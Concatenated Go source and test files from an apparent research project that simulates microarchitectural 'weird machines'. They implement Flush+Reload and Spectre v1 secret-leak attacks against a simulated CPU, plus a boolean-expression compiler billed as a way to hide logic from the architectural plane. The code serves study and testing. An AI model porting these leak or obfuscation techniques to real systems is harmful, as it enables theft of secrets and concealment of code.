	if err != nil {
		return nil, err
	}
	f.prog = prog
	// Warm every entry: a cold probe pays instruction-fetch misses
	// inside its timed section, burying the data-cache signal.
	entries := []string{"victim_lo", "victim_hi"}
	for i := range f.table {
		entries = append(entries, fmt.Sprintf("probe%d", i))
	}
	entries = append(entries, "flush")
	for _, e := range entries {
		if _, err := f.m.CPU().Run(prog, e); err != nil {
			return nil, fmt.Errorf("covert: warming %s: %w", e, err)
		}
	}
	return f, nil
}

// PlantSecret stores the victim's secret byte in its memory.
func (f *FlushReload) PlantSecret(b byte) {
	f.m.Mem().Write64(f.secret.Addr, uint64(b))
}

// recoverNibble runs one flush → victim → reload round and returns the
// index of the fastest probe line.
func (f *FlushReload) recoverNibble(victimEntry string) (int, error) {
	cpu := f.m.CPU()
	if _, err := cpu.Run(f.prog, "flush"); err != nil {
		return 0, err
	}
	if _, err := cpu.Run(f.prog, victimEntry); err != nil {
		return 0, err
	}
	best, bestDelta := -1, int64(1<<62)
	for i := range f.table {
		if _, err := cpu.Run(f.prog, fmt.Sprintf("probe%d", i)); err != nil {
			return 0, err
		}
		delta := int64(cpu.Reg(isa.R12) - cpu.Reg(isa.R10))
		if delta < bestDelta {
			best, bestDelta = i, delta
		}
	}
	return best, nil
}

// RecoverSecret performs the attack: two rounds per attempt (low and
// high nibble), repeated `rounds` times with a per-nibble majority to
// ride out timing noise. It never reads the victim's memory — only the
// shared cache state.
func (f *FlushReload) RecoverSecret(rounds int) (byte, error) {
	if rounds < 1 {
		rounds = 1
	}
	var loVotes, hiVotes [16]int
	for r := 0; r < rounds; r++ {
		lo, err := f.recoverNibble("victim_lo")
		if err != nil {
			return 0, err
		}
		hi, err := f.recoverNibble("victim_hi")
		if err != nil {
			return 0, err
		}
		loVotes[lo]++
		hiVotes[hi]++
	}
	argmax := func(v [16]int) byte {
		best := 0
		for i, n := range v {
			if n > v[best] {
				best = i
			}
		}
		return byte(best)
	}
	return argmax(hiVotes)<<4 | argmax(loVotes), nil
}
