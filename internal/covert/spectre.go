package covert

import (
	"fmt"

	"uwm/internal/core"
	"uwm/internal/isa"
	"uwm/internal/mem"
)

// SpectreV1 demonstrates the bounds-check-bypass primitive the paper
// builds on (§2: "the cache covert channel leaks sensitive data from
// within the erroneous speculative execution"). The victim is ordinary,
// *correct* code:
//
//	if idx < bound {
//	    v := array[idx]
//	    touch(table[nibble(v) * 64])
//	}
//
// The attacker trains the bounds check in-bounds, flushes the bound
// variable (slow resolution = wide transient window) and the probe
// table, then calls the victim with an out-of-bounds index reaching a
// secret. Architecturally nothing happens — the branch correctly skips
// the body — but the transient path reads the secret and leaves its
// nibble in the cache, where flush+reload timing recovers it.
type SpectreV1 struct {
	m      *core.Machine
	bound  mem.Symbol
	array  mem.Symbol // 8 in-bounds bytes
	secret mem.Symbol // lives right after the array, out of bounds
	table  [16]mem.Symbol
	prog   *isa.Program
}

// NewSpectreV1 builds the victim and attack programs on m.
func NewSpectreV1(m *core.Machine) (*SpectreV1, error) {
	s := &SpectreV1{m: m}
	lay := m.Layout()
	s.bound = lay.AllocLine("spectre.bound")
	s.array = lay.AllocLine("spectre.array")
	s.secret = lay.AllocLine("spectre.secret")
	for i := range s.table {
		s.table[i] = lay.AllocLine(fmt.Sprintf("spectre.t%d", i))
	}
	m.Mem().Write64(s.bound.Addr, 8) // len(array)

	base := s.table[0].Addr
	b := isa.NewBuilder(0x6_800_000)

	// victim_lo / victim_hi: the bounds-checked gadget leaking the
	// low / high nibble of array[R1]. R1 carries the caller's index.
	for _, v := range []struct {
		label string
		hi    bool
	}{{"victim_lo", false}, {"victim_hi", true}} {
		b.Label(v.label).
			Load(isa.R2, s.bound, 0). // bound: flushed by the attacker
			Sub(isa.R3, isa.R1, isa.R2).
			Shr(isa.R3, isa.R3, 63). // 1 iff idx < bound
			Brz(isa.R3, v.label+"_skip")
		b.AlignLine()
		b.Label(v.label + "_body")
		// Transient body: read array[idx], index the probe table by a
		// nibble of the value.
		b.LoadR(isa.R4, isa.R1, int64(s.array.Addr))
		if v.hi {
			b.Shr(isa.R4, isa.R4, 4)
		}
		b.MovI(isa.R5, 0xF).
			BoolAnd(isa.R4, isa.R4, isa.R5).
			Shl(isa.R4, isa.R4, 6).
			LoadR(isa.R6, isa.R4, int64(base)).
			Halt()
		b.AlignLine()
		b.Label(v.label + "_skip").Halt()
	}

	// Attacker entries: flush the bound and probe lines; timed probes.
	b.Label("flush").Clflush(s.bound, 0)
	for i := range s.table {
		b.Clflush(s.table[i], 0)
	}
	b.Fence().Halt()
	for i := range s.table {
		b.Label(fmt.Sprintf("probe%d", i)).
			Rdtsc(isa.R10).
			Load(isa.R11, s.table[i], 0).
			Rdtsc(isa.R12).
			Halt()
	}

	prog, err := b.Build()
	if err != nil {
		return nil, err
	}
	s.prog = prog

	// Warm all code paths (cold transient code cannot execute).
	entries := []string{"flush"}
	for i := range s.table {
		entries = append(entries, fmt.Sprintf("probe%d", i))
	}
	cpu := m.CPU()
	for _, e := range entries {
		if _, err := cpu.Run(prog, e); err != nil {
			return nil, fmt.Errorf("covert: warming spectre/%s: %w", e, err)
		}
	}
	// Warm + train the victims with an in-bounds index (this also
	// touches the transient body's code line, the IC side of the race).
	for i := 0; i < 4; i++ {
		for _, v := range []string{"victim_lo", "victim_hi"} {
			cpu.SetReg(isa.R1, 0)
			if _, err := cpu.Run(prog, v); err != nil {
				return nil, fmt.Errorf("covert: training spectre/%s: %w", v, err)
			}
		}
	}
	return s, nil
}

// PlantSecret stores the victim's secret byte just past the array.
func (s *SpectreV1) PlantSecret(b byte) {
	s.m.Mem().Write64(s.secret.Addr, uint64(b))
}

// secretIndex is the out-of-bounds index reaching the secret from the
// array base (they are adjacent line-aligned allocations).
func (s *SpectreV1) secretIndex() uint64 {
	return uint64(s.secret.Addr - s.array.Addr)
}

// leakNibble performs one train → flush → transient access → probe round.
func (s *SpectreV1) leakNibble(victim string) (int, error) {
	cpu := s.m.CPU()
	// Re-train the bounds check in-bounds (the malicious call below
	// updates the predictor toward taken/skip).
	for i := 0; i < 4; i++ {
		cpu.SetReg(isa.R1, 0)
		if _, err := cpu.Run(s.prog, victim); err != nil {
			return 0, err
		}
	}
	if _, err := cpu.Run(s.prog, "flush"); err != nil {
		return 0, err
	}
	// The malicious call: out-of-bounds index. Architecturally the
	// branch (correctly) skips the body.
	cpu.SetReg(isa.R1, s.secretIndex())
	if _, err := cpu.Run(s.prog, victim); err != nil {
		return 0, err
	}
	best, bestDelta := -1, int64(1<<62)
	for i := range s.table {
		if _, err := cpu.Run(s.prog, fmt.Sprintf("probe%d", i)); err != nil {
			return 0, err
		}
		d := int64(cpu.Reg(isa.R12) - cpu.Reg(isa.R10))
		if d < bestDelta {
			best, bestDelta = i, d
		}
	}
	return best, nil
}

// LeakSecret recovers the secret byte through the transient channel,
// using a per-nibble majority over rounds.
func (s *SpectreV1) LeakSecret(rounds int) (byte, error) {
	if rounds < 1 {
		rounds = 1
	}
	var lo, hi [16]int
	for r := 0; r < rounds; r++ {
		l, err := s.leakNibble("victim_lo")
		if err != nil {
			return 0, err
		}
		h, err := s.leakNibble("victim_hi")
		if err != nil {
			return 0, err
		}
		lo[l]++
		hi[h]++
	}
	argmax := func(v [16]int) byte {
		best := 0
		for i, n := range v {
			if n > v[best] {
				best = i
			}
		}
		return byte(best)
	}
	return argmax(hi)<<4 | argmax(lo), nil
}
