package covert

import (
	"bytes"
	"testing"

	"uwm/internal/core"
	"uwm/internal/noise"
	"uwm/internal/trace"
)

func quietMachine(t *testing.T) *core.Machine {
	t.Helper()
	m, err := core.NewMachine(core.Options{Seed: 7, TrainIterations: 4})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestChannelOverDCWR(t *testing.T) {
	m := quietMachine(t)
	wr, err := core.NewDCWR(m)
	if err != nil {
		t.Fatal(err)
	}
	c := NewChannel(wr, 1)
	msg := []byte("weird covert channel")
	got, err := c.Transfer(msg)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, msg) {
		t.Errorf("transfer = %q, want %q", got, msg)
	}
}

func TestChannelOverBPWR(t *testing.T) {
	m := quietMachine(t)
	wr, err := core.NewBPWR(m)
	if err != nil {
		t.Fatal(err)
	}
	c := NewChannel(wr, 1)
	msg := []byte{0x5A, 0xFF, 0x00}
	got, err := c.Transfer(msg)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, msg) {
		t.Errorf("transfer over BP-WR = %x, want %x", got, msg)
	}
}

func TestChannelUnderNoiseWithRedundancy(t *testing.T) {
	m, err := core.NewMachine(core.Options{Seed: 9, Noise: noise.Paper(), TrainIterations: 4})
	if err != nil {
		t.Fatal(err)
	}
	wr, err := core.NewDCWR(m)
	if err != nil {
		t.Fatal(err)
	}
	rng := noise.NewRNG(3)
	raw, err := Measure(m, NewChannel(wr, 1), 2000, rng)
	if err != nil {
		t.Fatal(err)
	}
	red, err := Measure(m, NewChannel(wr, 3), 2000, rng)
	if err != nil {
		t.Fatal(err)
	}
	if raw.ErrorRate() > 0.05 {
		t.Errorf("raw DC-WR channel error rate %.4f too high", raw.ErrorRate())
	}
	if red.ErrorRate() > raw.ErrorRate() && red.ErrorRate() > 0.002 {
		t.Errorf("redundancy did not help: raw %.4f vs x3 %.4f", raw.ErrorRate(), red.ErrorRate())
	}
	if red.Cycles <= raw.Cycles {
		t.Error("redundancy should cost cycles")
	}
	if raw.BitsPerSecond(2.3e9) <= 0 {
		t.Error("throughput not positive")
	}
}

func TestFlushReloadRecoversSecrets(t *testing.T) {
	m := quietMachine(t)
	fr, err := NewFlushReload(m)
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []byte{0x00, 0x0F, 0xA5, 0xFF, 0x42, 0x99} {
		fr.PlantSecret(secret)
		got, err := fr.RecoverSecret(1)
		if err != nil {
			t.Fatal(err)
		}
		if got != secret {
			t.Errorf("recovered %#02x, want %#02x", got, secret)
		}
	}
}

func TestFlushReloadUnderNoise(t *testing.T) {
	m, err := core.NewMachine(core.Options{Seed: 11, Noise: noise.Paper()})
	if err != nil {
		t.Fatal(err)
	}
	fr, err := NewFlushReload(m)
	if err != nil {
		t.Fatal(err)
	}
	rng := noise.NewRNG(5)
	correct := 0
	const trials = 40
	for i := 0; i < trials; i++ {
		secret := byte(rng.Uint64())
		fr.PlantSecret(secret)
		got, err := fr.RecoverSecret(3) // majority of 3 rides out outliers
		if err != nil {
			t.Fatal(err)
		}
		if got == secret {
			correct++
		}
	}
	if correct < trials*9/10 {
		t.Errorf("noisy recovery %d/%d below 90%%", correct, trials)
	}
}

func TestChannelRepsDefault(t *testing.T) {
	m := quietMachine(t)
	wr, err := core.NewDCWR(m)
	if err != nil {
		t.Fatal(err)
	}
	c := NewChannel(wr, 0)
	if c.reps != 1 {
		t.Errorf("reps = %d", c.reps)
	}
}

func TestSpectreV1LeaksSecret(t *testing.T) {
	m := quietMachine(t)
	sp, err := NewSpectreV1(m)
	if err != nil {
		t.Fatal(err)
	}
	for _, secret := range []byte{0x00, 0x42, 0xA7, 0xFF} {
		sp.PlantSecret(secret)
		got, err := sp.LeakSecret(3)
		if err != nil {
			t.Fatal(err)
		}
		if got != secret {
			t.Errorf("leaked %#02x, want %#02x", got, secret)
		}
	}
}

// TestSpectreV1ArchitecturallyClean verifies the victim never
// architecturally exposes the secret: the out-of-bounds call's branch
// correctly skips the body, so no committed instruction reads it.
func TestSpectreV1ArchitecturallyClean(t *testing.T) {
	m := quietMachine(t)
	sp, err := NewSpectreV1(m)
	if err != nil {
		t.Fatal(err)
	}
	sp.PlantSecret(0x42)
	rec := trace.NewRecorder(0)
	m.CPU().SetRecorder(rec)
	if _, err := sp.LeakSecret(2); err != nil {
		t.Fatal(err)
	}
	m.CPU().SetRecorder(nil)
	for _, e := range rec.Architectural() {
		if e.Kind == trace.KindRegWrite && e.Value == 0x42 && e.Text == "r4" {
			t.Fatal("secret value committed architecturally during the attack")
		}
	}
}

func TestSpectreV1UnderNoise(t *testing.T) {
	if testing.Short() {
		t.Skip("noisy spectre sweep")
	}
	m, err := core.NewMachine(core.Options{Seed: 13, Noise: noise.Paper()})
	if err != nil {
		t.Fatal(err)
	}
	sp, err := NewSpectreV1(m)
	if err != nil {
		t.Fatal(err)
	}
	rng := noise.NewRNG(6)
	correct := 0
	const trials = 25
	for i := 0; i < trials; i++ {
		secret := byte(rng.Uint64())
		sp.PlantSecret(secret)
		got, err := sp.LeakSecret(5)
		if err != nil {
			t.Fatal(err)
		}
		if got == secret {
			correct++
		}
	}
	if correct < trials*8/10 {
		t.Errorf("noisy spectre recovery %d/%d below 80%%", correct, trials)
	}
}
