package bexpr_test

import (
	"fmt"

	"uwm/internal/bexpr"
	"uwm/internal/core"
)

// ExampleCompile turns a boolean expression into a weird circuit and
// evaluates it on the simulated microarchitecture.
func ExampleCompile() {
	m := core.MustNewMachine(core.Options{Seed: 4})
	circ, vars, err := bexpr.Compile(m, "(a ^ b) & !c")
	if err != nil {
		panic(err)
	}
	fmt.Println("inputs:", vars)
	out, err := circ.Run(1, 0, 0) // a=1 b=0 c=0
	if err != nil {
		panic(err)
	}
	fmt.Println("result:", out[0])
	// Output:
	// inputs: [a b c]
	// result: 1
}
