// Package bexpr parses boolean expressions into weird-circuit netlists,
// the front end of the obfuscation workflow: write the sensitive
// predicate as an expression, compile it to a chain of transactions,
// and the logic disappears from the architectural plane.
//
// Grammar (precedence low→high: |, ^, &, !):
//
//	expr   := xor { "|" xor }
//	xor    := term { "^" term }
//	term   := factor { "&" factor }
//	factor := "!" factor | "(" expr ")" | ident | "0" | "1"
//
// Identifiers are [A-Za-z_][A-Za-z0-9_]*; each distinct identifier
// becomes one circuit input, in first-appearance order. Constants are
// folded before lowering.
package bexpr

import (
	"fmt"
	"strings"

	"uwm/internal/core"
)

// Expr is a parsed boolean expression tree.
type Expr interface {
	// Eval computes the expression under an assignment.
	Eval(env map[string]int) int
	// String renders the expression with full parenthesization.
	String() string
}

// Var is an input variable reference.
type Var struct{ Name string }

// Const is a literal 0 or 1.
type Const struct{ Value int }

// Unary is a negation.
type Unary struct{ X Expr }

// Binary is a two-operand node with Op one of '&', '|', '^'.
type Binary struct {
	Op   byte
	L, R Expr
}

// Eval implements Expr.
func (v Var) Eval(env map[string]int) int { return env[v.Name] & 1 }

// Eval implements Expr.
func (c Const) Eval(map[string]int) int { return c.Value & 1 }

// Eval implements Expr.
func (u Unary) Eval(env map[string]int) int { return 1 - u.X.Eval(env) }

// Eval implements Expr.
func (b Binary) Eval(env map[string]int) int {
	l, r := b.L.Eval(env), b.R.Eval(env)
	switch b.Op {
	case '&':
		return l & r
	case '|':
		return l | r
	case '^':
		return l ^ r
	default:
		panic("bexpr: bad operator")
	}
}

// String implements Expr.
func (v Var) String() string { return v.Name }

// String implements Expr.
func (c Const) String() string { return fmt.Sprintf("%d", c.Value&1) }

// String implements Expr.
func (u Unary) String() string { return "!" + u.X.String() }

// String implements Expr.
func (b Binary) String() string {
	return fmt.Sprintf("(%s %c %s)", b.L, b.Op, b.R)
}

// parser is a recursive-descent parser over a byte cursor.
type parser struct {
	src string
	pos int
}

// Parse parses one boolean expression.
func Parse(src string) (Expr, error) {
	p := &parser{src: src}
	e, err := p.parseOr()
	if err != nil {
		return nil, err
	}
	p.skipSpace()
	if p.pos != len(p.src) {
		return nil, fmt.Errorf("bexpr: unexpected %q at offset %d", p.src[p.pos], p.pos)
	}
	return e, nil
}

func (p *parser) skipSpace() {
	for p.pos < len(p.src) && (p.src[p.pos] == ' ' || p.src[p.pos] == '\t') {
		p.pos++
	}
}

// accept consumes c if it is next.
func (p *parser) accept(c byte) bool {
	p.skipSpace()
	if p.pos < len(p.src) && p.src[p.pos] == c {
		p.pos++
		return true
	}
	return false
}

func (p *parser) parseOr() (Expr, error) {
	l, err := p.parseXor()
	if err != nil {
		return nil, err
	}
	for p.accept('|') {
		r, err := p.parseXor()
		if err != nil {
			return nil, err
		}
		l = Binary{Op: '|', L: l, R: r}
	}
	return l, nil
}

func (p *parser) parseXor() (Expr, error) {
	l, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for p.accept('^') {
		r, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		l = Binary{Op: '^', L: l, R: r}
	}
	return l, nil
}

func (p *parser) parseAnd() (Expr, error) {
	l, err := p.parseFactor()
	if err != nil {
		return nil, err
	}
	for p.accept('&') {
		r, err := p.parseFactor()
		if err != nil {
			return nil, err
		}
		l = Binary{Op: '&', L: l, R: r}
	}
	return l, nil
}

func isIdentStart(c byte) bool {
	return c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

func isIdentCont(c byte) bool {
	return isIdentStart(c) || c >= '0' && c <= '9'
}

func (p *parser) parseFactor() (Expr, error) {
	p.skipSpace()
	if p.pos >= len(p.src) {
		return nil, fmt.Errorf("bexpr: unexpected end of expression")
	}
	switch c := p.src[p.pos]; {
	case c == '!':
		p.pos++
		x, err := p.parseFactor()
		if err != nil {
			return nil, err
		}
		return Unary{X: x}, nil
	case c == '(':
		p.pos++
		e, err := p.parseOr()
		if err != nil {
			return nil, err
		}
		if !p.accept(')') {
			return nil, fmt.Errorf("bexpr: missing ')' at offset %d", p.pos)
		}
		return e, nil
	case c == '0', c == '1':
		p.pos++
		return Const{Value: int(c - '0')}, nil
	case isIdentStart(c):
		start := p.pos
		for p.pos < len(p.src) && isIdentCont(p.src[p.pos]) {
			p.pos++
		}
		return Var{Name: p.src[start:p.pos]}, nil
	default:
		return nil, fmt.Errorf("bexpr: unexpected %q at offset %d", c, p.pos)
	}
}

// Vars returns the expression's variables in first-appearance order.
func Vars(e Expr) []string {
	var out []string
	seen := map[string]bool{}
	var walk func(Expr)
	walk = func(e Expr) {
		switch v := e.(type) {
		case Var:
			if !seen[v.Name] {
				seen[v.Name] = true
				out = append(out, v.Name)
			}
		case Unary:
			walk(v.X)
		case Binary:
			walk(v.L)
			walk(v.R)
		}
	}
	walk(e)
	return out
}

// fold performs constant folding so circuits never burn transactions on
// literals.
func fold(e Expr) Expr {
	switch v := e.(type) {
	case Unary:
		x := fold(v.X)
		if c, ok := x.(Const); ok {
			return Const{Value: 1 - c.Value}
		}
		return Unary{X: x}
	case Binary:
		l, r := fold(v.L), fold(v.R)
		lc, lok := l.(Const)
		rc, rok := r.(Const)
		if lok && rok {
			return Const{Value: Binary{Op: v.Op, L: lc, R: rc}.Eval(nil)}
		}
		// Identity/annihilator simplifications for one constant side:
		// normalize the constant to the right (all three ops commute).
		if lok && !rok {
			l = r
			rc, rok = lc, true
		}
		if rok {
			switch {
			case v.Op == '&' && rc.Value == 1, v.Op == '|' && rc.Value == 0, v.Op == '^' && rc.Value == 0:
				return l
			case v.Op == '&' && rc.Value == 0:
				return Const{Value: 0}
			case v.Op == '|' && rc.Value == 1:
				return Const{Value: 1}
			case v.Op == '^' && rc.Value == 1:
				return Unary{X: l}
			}
		}
		return Binary{Op: v.Op, L: l, R: r}
	default:
		return e
	}
}

// Lowered is a netlist compiled from an expression.
type Lowered struct {
	Spec *core.CircuitSpec
	// Inputs maps circuit input index → variable name.
	Inputs []string
}

// Lower compiles an expression to a single-output weird-circuit
// netlist. Constant-only expressions lower to an assignment of a
// pre-set input wire would be pointless, so they are rejected — fold
// them architecturally instead.
func Lower(e Expr) (*Lowered, error) {
	e = fold(e)
	if _, ok := e.(Const); ok {
		return nil, fmt.Errorf("bexpr: expression folds to a constant")
	}
	vars := Vars(e)
	index := map[string]int{}
	for i, v := range vars {
		index[v] = i
	}
	spec := core.NewCircuitSpec(len(vars))

	var lower func(Expr) core.WireID
	lower = func(e Expr) core.WireID {
		switch v := e.(type) {
		case Var:
			return core.WireID(index[v.Name])
		case Unary:
			return spec.Not(lower(v.X))
		case Binary:
			a := lower(v.L)
			b := lower(v.R)
			switch v.Op {
			case '&':
				return spec.And(a, b)
			case '|':
				return spec.Or(a, b)
			case '^':
				return spec.Xor(a, b)
			}
		}
		panic("bexpr: unreachable")
	}
	out := lower(e)
	// A bare variable lowers to a wire that is both input and output;
	// give it an explicit pass-through gate so reads have their copy.
	if int(out) < spec.NumInputs {
		out = spec.Assign(out)
	}
	spec.Output(out)
	if err := spec.Validate(); err != nil {
		return nil, fmt.Errorf("bexpr: lowering bug: %w", err)
	}
	return &Lowered{Spec: spec, Inputs: vars}, nil
}

// Compile parses, lowers and compiles an expression onto a machine.
func Compile(m *core.Machine, src string) (*core.Circuit, []string, error) {
	e, err := Parse(src)
	if err != nil {
		return nil, nil, err
	}
	low, err := Lower(e)
	if err != nil {
		return nil, nil, err
	}
	c, err := core.CompileCircuit(m, low.Spec)
	if err != nil {
		return nil, nil, err
	}
	return c, low.Inputs, nil
}

// FormatAssignment renders an input assignment for diagnostics.
func FormatAssignment(vars []string, bits []int) string {
	parts := make([]string, len(vars))
	for i, v := range vars {
		parts[i] = fmt.Sprintf("%s=%d", v, bits[i]&1)
	}
	return strings.Join(parts, " ")
}
