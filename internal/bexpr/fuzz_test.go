package bexpr

import "testing"

// FuzzParse checks the parser never panics and that accepted
// expressions survive a print → reparse round trip with identical
// semantics on a fixed assignment.
func FuzzParse(f *testing.F) {
	for _, seed := range []string{
		"a & b", "a|b^c", "!(x & y) | z", "((a))", "0 ^ 1 & v",
		"a &", ")(", "long_name_1 & long_name_2", "!!!!a",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, src string) {
		e, err := Parse(src)
		if err != nil {
			return
		}
		printed := e.String()
		e2, err := Parse(printed)
		if err != nil {
			t.Fatalf("reparse of %q (from %q) failed: %v", printed, src, err)
		}
		env := map[string]int{}
		for i, v := range Vars(e) {
			env[v] = i & 1
		}
		if e.Eval(env) != e2.Eval(env) {
			t.Fatalf("round trip changed semantics: %q vs %q", src, printed)
		}
		// Lowering must either fold to a constant or produce a valid
		// netlist agreeing with the tree on this assignment.
		low, err := Lower(e)
		if err != nil {
			return
		}
		in := make([]int, len(low.Inputs))
		for i, name := range low.Inputs {
			in[i] = env[name]
		}
		out, err := low.Spec.Eval(in)
		if err != nil {
			t.Fatalf("netlist eval failed: %v", err)
		}
		if out[0] != e.Eval(env) {
			t.Fatalf("lowering changed semantics for %q", src)
		}
	})
}
