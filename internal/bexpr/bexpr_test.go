package bexpr

import (
	"strings"
	"testing"

	"uwm/internal/core"
	"uwm/internal/noise"
)

func mustParse(t *testing.T, src string) Expr {
	t.Helper()
	e, err := Parse(src)
	if err != nil {
		t.Fatalf("Parse(%q): %v", src, err)
	}
	return e
}

func TestParsePrecedence(t *testing.T) {
	cases := []struct{ src, want string }{
		{"a & b | c", "((a & b) | c)"},
		{"a | b & c", "(a | (b & c))"},
		{"a ^ b & c", "(a ^ (b & c))"},
		{"a | b ^ c", "(a | (b ^ c))"},
		{"!a & b", "(!a & b)"},
		{"!(a & b)", "!(a & b)"},
		{"a & (b | c)", "(a & (b | c))"},
		{"!!a", "!!a"},
		{"a&b&c", "((a & b) & c)"},
	}
	for _, c := range cases {
		if got := mustParse(t, c.src).String(); got != c.want {
			t.Errorf("Parse(%q) = %s, want %s", c.src, got, c.want)
		}
	}
}

func TestParseErrors(t *testing.T) {
	for _, src := range []string{"", "a &", "& a", "(a", "a)", "a $ b", "a b", "!", "()"} {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q) accepted", src)
		}
	}
}

func TestEvalExhaustive(t *testing.T) {
	e := mustParse(t, "(a ^ b) & !c | d")
	for v := 0; v < 16; v++ {
		env := map[string]int{"a": v & 1, "b": v >> 1 & 1, "c": v >> 2 & 1, "d": v >> 3 & 1}
		want := (env["a"]^env["b"])&(1-env["c"]) | env["d"]
		if got := e.Eval(env); got != want {
			t.Errorf("eval %v = %d, want %d", env, got, want)
		}
	}
}

func TestVarsOrder(t *testing.T) {
	e := mustParse(t, "b & a | b ^ c")
	got := Vars(e)
	want := []string{"b", "a", "c"}
	if len(got) != len(want) {
		t.Fatalf("vars = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("vars = %v, want %v", got, want)
		}
	}
}

func TestConstantFolding(t *testing.T) {
	cases := []struct{ src, want string }{
		{"a & 1", "a"},
		{"a & 0 | b", "b"},
		{"a | 1 | b", "1"},
		{"a ^ 0", "a"},
		{"a ^ 1", "!a"},
		{"!0 & a", "a"},
		{"1 & 0", "0"},
	}
	for _, c := range cases {
		if got := fold(mustParse(t, c.src)).String(); got != c.want {
			t.Errorf("fold(%q) = %s, want %s", c.src, got, c.want)
		}
	}
}

func TestLowerRejectsConstants(t *testing.T) {
	if _, err := Lower(mustParse(t, "1 | 0")); err == nil {
		t.Error("constant expression lowered")
	}
}

func TestLowerSpecMatchesEval(t *testing.T) {
	for _, src := range []string{
		"a & b", "a | b", "a ^ b", "!a", "a",
		"(a ^ b) & c", "!(a & b) | (c ^ a)", "a & 1 | b & 0",
	} {
		low, err := Lower(mustParse(t, src))
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		n := len(low.Inputs)
		for v := 0; v < 1<<n; v++ {
			in := make([]int, n)
			env := map[string]int{}
			for i, name := range low.Inputs {
				in[i] = v >> i & 1
				env[name] = in[i]
			}
			out, err := low.Spec.Eval(in)
			if err != nil {
				t.Fatal(err)
			}
			if want := mustParse(t, src).Eval(env); out[0] != want {
				t.Errorf("%q %v: netlist %d, expr %d", src, env, out[0], want)
			}
		}
	}
}

// TestCompiledExpressionOnWeirdMachine is the end-to-end check: parse →
// lower → compile → run on the μWM → compare against direct evaluation.
func TestCompiledExpressionOnWeirdMachine(t *testing.T) {
	m, err := core.NewMachine(core.Options{Seed: 31})
	if err != nil {
		t.Fatal(err)
	}
	for _, src := range []string{"a & b", "a ^ b", "!(a & b) | c"} {
		circ, vars, err := Compile(m, src)
		if err != nil {
			t.Fatalf("%q: %v", src, err)
		}
		n := len(vars)
		for v := 0; v < 1<<n; v++ {
			in := make([]int, n)
			env := map[string]int{}
			for i, name := range vars {
				in[i] = v >> i & 1
				env[name] = in[i]
			}
			got, err := circ.Run(in...)
			if err != nil {
				t.Fatal(err)
			}
			if want := mustParse(t, src).Eval(env); got[0] != want {
				t.Errorf("%q [%s]: μWM %d, want %d", src, FormatAssignment(vars, in), got[0], want)
			}
		}
	}
}

// TestRandomExpressionsProperty generates random expressions and checks
// netlist evaluation against tree evaluation on random assignments.
func TestRandomExpressionsProperty(t *testing.T) {
	rng := noise.NewRNG(8)
	names := []string{"a", "b", "c", "d"}
	var gen func(depth int) string
	gen = func(depth int) string {
		if depth == 0 || rng.Intn(3) == 0 {
			return names[rng.Intn(len(names))]
		}
		switch rng.Intn(4) {
		case 0:
			return "!(" + gen(depth-1) + ")"
		case 1:
			return "(" + gen(depth-1) + " & " + gen(depth-1) + ")"
		case 2:
			return "(" + gen(depth-1) + " | " + gen(depth-1) + ")"
		default:
			return "(" + gen(depth-1) + " ^ " + gen(depth-1) + ")"
		}
	}
	for trial := 0; trial < 60; trial++ {
		src := gen(3)
		e := mustParse(t, src)
		low, err := Lower(e)
		if err != nil {
			continue // folded to a constant
		}
		for rep := 0; rep < 8; rep++ {
			in := make([]int, len(low.Inputs))
			env := map[string]int{}
			for i, name := range low.Inputs {
				in[i] = rng.Bit()
				env[name] = in[i]
			}
			out, err := low.Spec.Eval(in)
			if err != nil {
				t.Fatal(err)
			}
			if out[0] != e.Eval(env) {
				t.Fatalf("%q diverges on %v", src, env)
			}
		}
	}
}

func TestFormatAssignment(t *testing.T) {
	got := FormatAssignment([]string{"x", "y"}, []int{1, 0})
	if got != "x=1 y=0" {
		t.Errorf("format = %q", got)
	}
	if !strings.Contains(mustParse(t, "x & y").String(), "&") {
		t.Error("string rendering broken")
	}
}
