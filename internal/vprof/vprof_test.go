package vprof_test

import (
	"bytes"
	"compress/gzip"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"uwm/internal/core"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
	"uwm/internal/trace"
	"uwm/internal/traceanalyze"
	"uwm/internal/vprof"
)

// span/end build a synthetic span event pair.
func span(id, parent uint64, name string, cycle int64) trace.Event {
	return trace.Event{Kind: trace.KindSpanBegin, Cycle: cycle, Value: id, Addr: parent, Text: name}
}

func end(id uint64, name string, cycle int64) trace.Event {
	return trace.Event{Kind: trace.KindSpanEnd, Cycle: cycle, Value: id, Text: name}
}

func folded(t *testing.T, p *vprof.Profiler) string {
	t.Helper()
	var buf bytes.Buffer
	if err := p.WriteFolded(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

func TestSyntheticAttribution(t *testing.T) {
	// program(0..100) > a(10..90) > b(20..50), plus a commit event at
	// cycle 100 defining the run extent.
	p := vprof.FromEvents([]trace.Event{
		span(1, 0, "a", 10),
		span(2, 1, "b", 20),
		end(2, "b", 50),
		end(1, "a", 90),
		{Kind: trace.KindCommit, Cycle: 100},
	})
	if got := p.TotalCycles(); got != 100 {
		t.Fatalf("TotalCycles = %d, want 100", got)
	}
	want := "program 20\nprogram;a 50\nprogram;a;b 30\n"
	if got := folded(t, p); got != want {
		t.Fatalf("folded:\n%s\nwant:\n%s", got, want)
	}
}

func TestMergedSiblingsAndSelfTotal(t *testing.T) {
	// Two spans of the same frame under the root must merge into one
	// node; the selves must sum to the total.
	p := vprof.FromEvents([]trace.Event{
		span(1, 0, "a", 0), end(1, "a", 10),
		span(2, 0, "a", 10), end(2, "a", 30),
		span(3, 0, "c", 40), end(3, "c", 60),
	})
	got := folded(t, p)
	if !strings.Contains(got, "program;a 30\n") {
		t.Errorf("sibling spans not merged:\n%s", got)
	}
	var sum int64
	for _, line := range strings.Split(strings.TrimSpace(got), "\n") {
		var v int64
		for i := len(line) - 1; i >= 0; i-- {
